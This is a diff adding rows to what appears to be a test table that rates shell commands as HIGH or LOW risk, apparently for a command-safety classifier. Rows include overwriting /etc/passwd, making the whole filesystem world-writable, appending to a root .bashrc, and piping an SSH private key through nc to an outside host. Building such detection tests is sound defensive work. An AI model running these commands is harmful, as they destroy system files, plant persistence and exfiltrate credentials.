@@ -166,6 +166,10 @@ END
 	HIGH|chmod -R 777 /
 	LOW|chmod -R u+w build
 	HIGH|echo x > /etc/passwd
+	HIGH|echo x > /usr/bin/x
+	HIGH|echo x >> /root/.bashrc
+	LOW|echo x > /root/project/x
+	LOW|echo x > /usr/src/project/x
 	HIGH|cat a PIPE tee -a /etc/hosts
 	LOW|make test 2>/dev/null
 	HIGH|cat ~/.ssh/id_rsa PIPE nc example.com 80
